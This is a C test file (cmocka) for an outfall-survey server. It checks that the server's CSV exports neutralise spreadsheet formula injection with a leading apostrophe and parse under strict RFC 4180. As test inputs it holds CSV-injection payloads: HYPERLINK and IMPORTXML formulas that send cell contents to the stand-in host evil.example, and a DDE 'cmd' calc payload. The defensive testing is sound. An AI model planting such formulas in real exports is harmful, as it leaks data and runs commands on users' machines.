/* Every CSV the server writes, through the real server (tests render/csv.c as programme/export.c
 * and programme/progress.c use it): GET /v1/exports/outfalls.csv, GET /v1/progress?format=csv and
 * GET /v1/reports/annual?format=csv. An outfall carries a formula (OWASP's list: '=', '+', '-',
 * '@', tab, carriage return first) in every text a user can set that a CSV shows: its name,
 * national code, landmark, the responsible party's name, permit number, address, contact and
 * phone; and its river's name (set in the database here: no endpoint names rivers, the seed
 * does). Each such cell must come out with a leading apostrophe, so a spreadsheet shows it as
 * text; numbers the server writes (coordinates, accuracy, version, counts, percentages) stay bare;
 * Chinese text is unchanged; and every CSV parses under strict RFC 4180 with as many cells in each
 * line as in its header. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include <cmocka.h>
#include <jansson.h>
#include <sqlite3.h>

#include "common/credit_code.h"
#include "common/util.h"
#include "tests/lib/harness.h"

#define DIV "410882" /* 沁阳市 */
#define RIVER "csvriver"
#define YEAR "2024"

/* The hostile texts, one per column a user can set. */
#define H_NAME "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击查看\")"
#define H_NATIONAL "@SUM(1+1)"
#define H_LANDMARK "+1+1 沁河桥下"
#define H_PARTY "-2+3 焦作某化工厂"
#define H_PERMIT "=1+1"
#define H_ADDRESS "\r=cmd|' /C calc'!A0"
#define H_CONTACT "\t=1+1 张三"
#define H_PHONE "+86 391 5550100" /* a real phone starts with '+' too: it is text */
#define H_RIVER "=IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")"

static th_server srv;
static th_user surveyor, city_sup;
static th_device dev;
static char outfall_id[37];

/* ---- a strict RFC 4180 reader ---------------------------------------------------------------- */

enum { MAX_ROWS = 64, MAX_COLS = 48, MAX_CELL = 256 };

typedef struct table {
    char cell[MAX_ROWS][MAX_COLS][MAX_CELL];
    int cols[MAX_ROWS];
    int rows;
} table;

/* Parses text[0..len) (after the byte-order mark, which must be there) into t: CRLF after every
 * line, a quote only around a whole cell (doubled inside it), no bare CR or LF outside quotes.
 * Fails the test on anything else, and when a line has another count of cells than the first. */
static void table_parse(const uint8_t *text, size_t len, table *t) {
    memset(t, 0, sizeof *t);
    assert_true(len >= 3);
    assert_memory_equal(text, "\xEF\xBB\xBF", 3);
    size_t i = 3;
    while (i < len) {
        assert_true(t->rows < MAX_ROWS);
        int c = 0;
        for (;;) {
            assert_true(c < MAX_COLS);
            char *out = t->cell[t->rows][c];
            size_t n = 0;
            if (i < len && text[i] == '"') {
                for (i++;; i++) {
                    assert_true(i < len); /* an open quote runs to the end */
                    if (text[i] == '"' && (i + 1 >= len || text[i + 1] != '"')) break;
                    if (text[i] == '"') i++;
                    assert_true(n + 1 < MAX_CELL);
                    out[n++] = (char)text[i];
                }
                i++; /* the closing quote */
            } else {
                for (; i < len && text[i] != ',' && text[i] != '\r'; i++) {
                    assert_true(text[i] != '"' && text[i] != '\n');
                    assert_true(n + 1 < MAX_CELL);
                    out[n++] = (char)text[i];
                }
            }
            out[n] = '\0';
            c++;
            if (i < len && text[i] == ',') {
                i++;
                continue;
            }
            assert_true(i + 1 < len && text[i] == '\r' && text[i + 1] == '\n');
            i += 2;
            break;
        }
        t->cols[t->rows] = c;
        if (t->rows > 0 && c != t->cols[0])
            print_message("line %d has %d cells, the header %d\n", t->rows + 1, c, t->cols[0]);
        assert_int_equal(c, t->cols[0]);
        t->rows++;
    }
}

/* The index of header name in t's first line. */
static int column(const table *t, const char *name) {
    for (int c = 0; c < t->cols[0]; c++)
        if (strcmp(t->cell[0][c], name) == 0) return c;
    fail_msg("no column %s", name);
    return -1;
}

/* The first line whose cell in column col is value (-1 when none). */
static int row_where(const table *t, int col, const char *value) {
    for (int r = 1; r < t->rows; r++)
        if (strcmp(t->cell[r][col], value) == 0) return r;
    return -1;
}

/* Asserts that cell is text, neutralised: an apostrophe, then exactly text. */
static void neutralised(const char *cell, const char *text) {
    char want[MAX_CELL];
    snprintf(want, sizeof want, "'%s", text);
    if (strcmp(cell, want) != 0) print_message("cell [%s] is not [%s]\n", cell, want);
    assert_string_equal(cell, want);
}

/* Asserts that cell is a bare number (digits, '-', '.'), not neutralised text. */
static void bare_number(const char *cell) {
    char *end = NULL;
    assert_true(cell[0] != '\0' && cell[0] != '\'');
    strtod(cell, &end);
    if (*end) print_message("cell [%s] is not a number\n", cell);
    assert_true(*end == '\0');
}

/* GET path as the city supervisor, asking for CSV with accept; the answer parsed into t. */
static void get_csv(const char *path, const char *accept, table *t) {
    th_request rq = {.method = "GET", .path = path, .accept = accept, .token = city_sup.token};
    th_response r;
    long st = th_http(&srv, &rq, &r);
    if (st != 200) print_message("GET %s: %ld %.*s\n", path, st, (int)r.len, r.body);
    assert_int_equal(st, 200);
    assert_string_equal(r.content_type, "text/csv; charset=utf-8");
    table_parse(r.body, r.len, t);
    th_response_free(&r);
}

/* ---- the tests ------------------------------------------------------------------------------- */

static void the_outfalls_export_neutralises_every_text_a_user_sets(void **state) {
    (void)state;
    static table t;
    get_csv("/v1/exports/outfalls.csv?division=" DIV, "text/csv", &t);
    assert_int_equal(t.rows, 2);
    int id = column(&t, "id");
    int r = row_where(&t, id, outfall_id);
    assert_true(r > 0);
    static const struct {
        const char *column, *text;
    } hostile[] = {
        {"name", H_NAME},
        {"national_code", H_NATIONAL},
        {"landmark", H_LANDMARK},
        {"river_code_label", H_RIVER},
        {"responsible_party.name", H_PARTY},
        {"responsible_party.permit_number", H_PERMIT},
        {"responsible_party.address", H_ADDRESS},
        {"responsible_party.contact", H_CONTACT},
        {"responsible_party.phone", H_PHONE},
    };
    for (size_t i = 0; i < sizeof hostile / sizeof hostile[0]; i++)
        neutralised(t.cell[r][column(&t, hostile[i].column)], hostile[i].text);
    /* what the server writes itself stays as it was: numbers bare, Chinese, codes, enums */
    static const char *const numbers[] = {"lon", "lat", "accuracy_m", "version"};
    for (size_t i = 0; i < sizeof numbers / sizeof numbers[0]; i++)
        bare_number(t.cell[r][column(&t, numbers[i])]);
    assert_string_equal(t.cell[r][column(&t, "lat")], "35.0912");
    assert_string_equal(t.cell[r][column(&t, "accuracy_m")], "4.5");
    assert_string_equal(t.cell[r][column(&t, "division_code_label")], "沁阳市");
    assert_string_equal(t.cell[r][column(&t, "river_code")], RIVER);
    assert_string_equal(t.cell[r][column(&t, "programme.plan.measure")],
                        "REMEDIATION_MEASURE_NONE");
    assert_string_equal(t.cell[r][column(&t, "responsible_party.credit_code")],
                        "91350100M000100Y43");
}

/* Issue 19.6: each enum column is followed by PATH_label, its Chinese label, in the CSV and as a
 * GeoJSON property; the enum columns keep their names and protobuf values. */
static const struct {
    const char *column, *value, *label;
} labelled[] = {
    {"type", "OUTFALL_TYPE_MUNICIPAL_WWTP", "城镇污水处理厂排污口"},
    {"entry_method", "ENTRY_METHOD_PIPE", "管道"},
    {"discharge_regime", "DISCHARGE_REGIME_INTERMITTENT", "间歇"},
    {"survey_level", "SURVEY_LEVEL_WALK", "人工徒步"},
    {"programme.stage", "LIFECYCLE_STAGE_RETAINED", "保留"},
    {"programme.plan.measure", "REMEDIATION_MEASURE_NONE", "无需整治"},
};
enum { N_LABELLED = sizeof labelled / sizeof labelled[0] };

static void the_outfalls_export_writes_chinese_labels_beside_codes(void **state) {
    (void)state;
    static table t;
    get_csv("/v1/exports/outfalls.csv?division=" DIV, "text/csv", &t);
    int r = row_where(&t, column(&t, "id"), outfall_id);
    assert_true(r > 0);
    char name[64];
    for (size_t i = 0; i < N_LABELLED; i++) {
        int c = column(&t, labelled[i].column);
        snprintf(name, sizeof name, "%s_label", labelled[i].column);
        assert_int_equal(column(&t, name), c + 1); /* right beside its code */
        assert_string_equal(t.cell[r][c], labelled[i].value);
        assert_string_equal(t.cell[r][c + 1], labelled[i].label);
    }
    /* party_basis has its label column too (empty when the basis is not set) */
    assert_int_equal(column(&t, "programme.party_basis_label"),
                     column(&t, "programme.party_basis") + 1);
    assert_int_equal(column(&t, "division_code_label"), column(&t, "division_code") + 1);
    assert_int_equal(column(&t, "river_code_label"), column(&t, "river_code") + 1);

    /* the GeoJSON carries the same labels as properties */
    th_request rq = {.method = "GET",
                     .path = "/v1/exports/outfalls.geojson?division=" DIV,
                     .token = city_sup.token};
    th_response g;
    assert_int_equal(th_http(&srv, &rq, &g), 200);
    json_t *fc = json_loadb((const char *)g.body, g.len, 0, NULL);
    th_response_free(&g);
    assert_non_null(fc);
    json_t *p = json_object_get(json_array_get(json_object_get(fc, "features"), 0), "properties");
    for (size_t i = 0; i < N_LABELLED; i++) {
        snprintf(name, sizeof name, "%s_label", labelled[i].column);
        assert_string_equal(json_string_value(json_object_get(p, labelled[i].column)),
                            labelled[i].value);
        assert_string_equal(json_string_value(json_object_get(p, name)), labelled[i].label);
    }
    assert_string_equal(json_string_value(json_object_get(p, "division_code_label")), "沁阳市");
    json_decref(fc);
}

static void the_progress_csv_neutralises_names(void **state) {
    (void)state;
    static table t;
    get_csv("/v1/progress?as_of=" YEAR "-12-31&division=" DIV "&format=csv", TH_JSON, &t);
    int scope = column(&t, "scope"), code = column(&t, "code"), name = column(&t, "name");
    int r = row_where(&t, code, RIVER);
    assert_true(r > 0);
    assert_string_equal(t.cell[r][scope], "river");
    neutralised(t.cell[r][name], H_RIVER);
    assert_string_equal(t.cell[r][column(&t, "found")], "1");
    /* its plan is NONE: counted apart, never as remediated (issue 18) */
    assert_string_equal(t.cell[r][column(&t, "remediated_pct")], "0.0");
    assert_string_equal(t.cell[r][column(&t, "no_remediation_needed")], "1");
    int d = row_where(&t, code, DIV);
    assert_true(d > 0);
    assert_string_equal(t.cell[d][name], "沁阳市");
    static const char *const numbers[] = {"found", "traced", "traced_pct", "retained",
                                          "traced_target_pct"};
    for (size_t i = 0; i < sizeof numbers / sizeof numbers[0]; i++)
        bare_number(t.cell[d][column(&t, numbers[i])]);
}

static void the_annual_report_csv_neutralises_its_lists(void **state) {
    (void)state;
    static table t;
    get_csv("/v1/reports/annual?year=" YEAR "&division=" DIV, "text/csv", &t);
    int section = column(&t, "section"), name = column(&t, "name");
    int r = row_where(&t, section, "retained");
    assert_true(r > 0);
    neutralised(t.cell[r][name], H_NAME);
    neutralised(t.cell[r][column(&t, "river")], H_RIVER);
    neutralised(t.cell[r][column(&t, "party")], H_PARTY);
    assert_string_equal(t.cell[r][column(&t, "measure")], "NONE");
    assert_string_equal(t.cell[r][column(&t, "date")], YEAR "-05-02");
    assert_string_equal(t.cell[r][column(&t, "credit_code")], "91350100M000100Y43");
    int found = row_where(&t, name, "found_in_year");
    assert_true(found > 0);
    assert_string_equal(t.cell[found][column(&t, "value")], "1");
    /* the HTML form of the same report is not a CSV: its text is escaped, never prefixed */
    th_request rq = {.method = "GET",
                     .path = "/v1/reports/annual?year=" YEAR "&division=" DIV,
                     .token = city_sup.token};
    th_response h;
    assert_int_equal(th_http(&srv, &rq, &h), 200);
    assert_non_null(strstr((const char *)h.body, "<td>=HYPERLINK(&quot;http://evil.example/?&quot;"
                                                 "&amp;A1,&quot;点击查看&quot;)</td>"));
    th_response_free(&h);
}

/* ---- the world ------------------------------------------------------------------------------- */

/* Names a river with a formula, as a seed could: no endpoint names rivers. */
static int add_hostile_river(void) {
    char path[400];
    sqlite3 *db = NULL;
    sqlite3_stmt *st = NULL;
    snprintf(path, sizeof path, "%s/outfall.db", srv.data);
    int rc = sqlite3_open(path, &db);
    if (rc == SQLITE_OK) sqlite3_busy_timeout(db, 5000);
    if (rc == SQLITE_OK)
        rc = sqlite3_prepare_v2(db,
                                "INSERT INTO rivers (code, name, basin_code) VALUES (?, ?, "
                                "'huanghe')",
                                -1, &st, NULL);
    if (rc == SQLITE_OK) {
        sqlite3_bind_text(st, 1, RIVER, -1, SQLITE_STATIC);
        sqlite3_bind_text(st, 2, H_RIVER, -1, SQLITE_STATIC);
        rc = sqlite3_step(st) == SQLITE_DONE ? SQLITE_OK : SQLITE_ERROR;
    }
    sqlite3_finalize(st);
    sqlite3_close(db);
    return rc == SQLITE_OK ? 0 : -1;
}

/* Moves the outfall one lifecycle step as the city supervisor on date; 0 when applied. */
static int move(int64_t base, int stage, const char *date, int measure) {
    Outfall__V1__LifecycleTransition t = OUTFALL__V1__LIFECYCLE_TRANSITION__INIT;
    Outfall__V1__RemediationPlan plan = OUTFALL__V1__REMEDIATION_PLAN__INIT;
    char tid[37];
    th_uuid(tid);
    t.transition_id = tid;
    t.outfall_id = outfall_id;
    t.has_base_version = t.has_to_stage = 1;
    t.base_version = base;
    t.to_stage = stage;
    t.effective_date = (char *)date;
    if (measure) {
        plan.has_measure = 1;
        plan.measure = measure;
        plan.notes = "=1+1"; /* not in any CSV */
        t.plan = &plan;
    }
    th_error e;
    long st = th_call(&srv, "POST", "/v1/programme/transitions", city_sup.token, TH_PB, &t.base,
                      NULL, NULL, &e);
    if (st != 200) fprintf(stderr, "transition to %d: %ld %s %s\n", stage, st, e.code, e.message);
    return st == 200 ? 0 : -1;
}

/* One outfall of 沁阳市 on the hostile river with a formula in every text a phone sets,
 * approved, then found, traced, planned (NONE), remediated and retained in YEAR. */
static int build_world(void) {
    th_batch *b = th_batch_new(&dev);
    if (!b) return -1;
    Outfall__V1__Outfall *o = th_outfall_create(b, RIVER, DIV, 35.0912, 112.9503);
    o->name = H_NAME;
    o->national_code = H_NATIONAL;
    o->landmark = H_LANDMARK;
    o->has_accuracy_m = 1;
    o->accuracy_m = 4.5;
    o->has_type = o->has_entry_method = o->has_discharge_regime = o->has_survey_level = 1;
    o->type = OUTFALL__V1__OUTFALL_TYPE__OUTFALL_TYPE_MUNICIPAL_WWTP;
    o->entry_method = OUTFALL__V1__ENTRY_METHOD__ENTRY_METHOD_PIPE;
    o->discharge_regime = OUTFALL__V1__DISCHARGE_REGIME__DISCHARGE_REGIME_INTERMITTENT;
    o->survey_level = OUTFALL__V1__SURVEY_LEVEL__SURVEY_LEVEL_WALK;
    Outfall__V1__ResponsibleParty *p = th_outfall_party(b, o);
    p->name = H_PARTY;
    p->credit_code = "91350100M000100Y43";
    p->permit_number = H_PERMIT;
    p->address = H_ADDRESS;
    p->contact = H_CONTACT;
    p->phone = H_PHONE;
    util_strlcpy(outfall_id, th_batch_entity(b, 0), sizeof outfall_id);
    Outfall__V1__SyncResponse *resp = th_sync_ok(&srv, surveyor.token, b, TH_PB);
    int applied = resp && resp->n_results == 1 &&
                  resp->results[0]->status == OUTFALL__V1__CHANGE_STATUS__CHANGE_STATUS_APPLIED;
    if (resp) outfall__v1__sync_response__free_unpacked(resp, NULL);
    th_batch_free(b);
    if (!applied || th_approve(&srv, city_sup.token, outfall_id, 1, NULL) != 200) return -1;
    th_first_seen_at_start(&srv, outfall_id);
    enum {
        FOUND = OUTFALL__V1__LIFECYCLE_STAGE__LIFECYCLE_STAGE_FOUND,
        TRACED = OUTFALL__V1__LIFECYCLE_STAGE__LIFECYCLE_STAGE_TRACED,
        PLANNED = OUTFALL__V1__LIFECYCLE_STAGE__LIFECYCLE_STAGE_PLANNED,
        REMEDIATED = OUTFALL__V1__LIFECYCLE_STAGE__LIFECYCLE_STAGE_REMEDIATED,
        RETAINED = OUTFALL__V1__LIFECYCLE_STAGE__LIFECYCLE_STAGE_RETAINED,
        NONE = OUTFALL__V1__REMEDIATION_MEASURE__REMEDIATION_MEASURE_NONE,
    };
    return move(2, FOUND, YEAR "-02-01", 0) || move(3, TRACED, YEAR "-03-01", 0) ||
                   move(4, PLANNED, YEAR "-04-01", NONE) || move(5, REMEDIATED, YEAR "-05-01", 0) ||
                   move(6, RETAINED, YEAR "-05-02", 0)
               ? -1
               : 0;
}

static int group_setup(void **state) {
    (void)state;
    const char *div[] = {DIV, NULL}, *city[] = {"410800", NULL};
    /* Lifecycles are dated anywhere in the programme here: no backdating limit (the rule has its
     * own tests, test_dates.c). */
    const char *const args[] = {"--backdate-days", "36500", NULL};
    if (th_server_start(&srv, args) != 0) return -1;
    if (th_user_new(&srv, "csv-surveyor", TH_ROLE(SURVEYOR), div, &surveyor) != 0 ||
        th_user_new(&srv, "csv-city", TH_ROLE(SUPERVISOR), city, &city_sup) != 0 ||
        th_device_new(&srv, surveyor.token, &dev) != 0 || add_hostile_river() != 0)
        return -1;
    return build_world();
}

static int group_teardown(void **state) {
    (void)state;
    return th_server_stop(&srv);
}

int main(void) {
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(the_outfalls_export_neutralises_every_text_a_user_sets),
        cmocka_unit_test(the_outfalls_export_writes_chinese_labels_beside_codes),
        cmocka_unit_test(the_progress_csv_neutralises_names),
        cmocka_unit_test(the_annual_report_csv_neutralises_its_lists),
    };
    return cmocka_run_group_tests_name("api/csv", tests, group_setup, group_teardown);
}
